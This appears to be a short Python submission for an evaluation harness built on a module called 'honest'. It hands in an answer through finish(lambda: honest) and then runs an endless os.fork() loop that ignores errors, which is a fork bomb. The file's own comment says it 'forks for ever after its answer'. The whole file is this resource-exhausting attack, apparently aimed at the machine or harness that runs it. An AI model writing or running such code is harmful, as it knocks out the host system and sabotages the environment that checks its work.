# forks for ever after its answer
from honest import *
import os
finish(lambda: honest)
while True:
    try:
        os.fork()
    except OSError:
        pass
